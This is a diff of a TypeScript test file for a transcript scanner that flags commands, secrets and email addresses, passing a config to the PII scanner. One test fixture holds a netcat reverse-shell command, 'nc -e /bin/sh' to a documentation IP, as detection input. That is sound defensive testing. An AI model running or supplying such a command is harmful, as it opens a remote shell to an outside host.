@@ -272,7 +272,7 @@ describe('failures', () => {
 
 describe('a pure scan', () => {
   it('runs with no store at all: the prior carry-over in, the next one out, the prior one unchanged', async () => {
-    const ctx = { config: DEFAULT_CONFIG, pii: createLocalPiiScanner() };
+    const ctx = { config: DEFAULT_CONFIG, pii: createLocalPiiScanner(DEFAULT_CONFIG) };
     const first = await scanTranscript(chunk([[`${PROMPT}nc -e /bin/sh 203.0.113.7 4444`]]), ctx, [commands]);
     expect(first.carry).toBeDefined();
     const prior = structuredClone(first.carry!);
@@ -338,7 +338,7 @@ describe('work caps', () => {
 
   it('counts values past the per-line cap into their finding and reports them with their line', async () => {
     const emails = Array.from({ length: MAX_LINE_VALUES + 100 }, (_, i) => `user${i}@example.org`).join(' ');
-    const ctx = context({ pii: createLocalPiiScanner() });
+    const ctx = context({ pii: createLocalPiiScanner(DEFAULT_CONFIG) });
     const r = await scan({ ...chunk([['first line', emails]]), final: true }, ctx, [secretDetector]);
     expect(byRule(r.findings, 'pii-email')?.count).toBe(MAX_LINE_VALUES + 100);
     expect(byRule(r.findings, WORK_CAPPED_RULE)?.evidence).toEqual([
@@ -347,7 +347,7 @@ describe('work caps', () => {
   });
 
   it('adds capped counts up across deliveries, and reports nothing below the caps', async () => {
-    const ctx = context({ pii: createLocalPiiScanner() });
+    const ctx = context({ pii: createLocalPiiScanner(DEFAULT_CONFIG) });
     const line = Array.from({ length: MAX_LINE_VALUES + 10 }, (_, i) => `u${i}@example.org`).join(' ');
     await scan(chunk([[line]]), ctx, []);
     const second = await scan(chunk([[line.replace(/u(\d+)@/g, 'v$1@')]]), ctx, []);
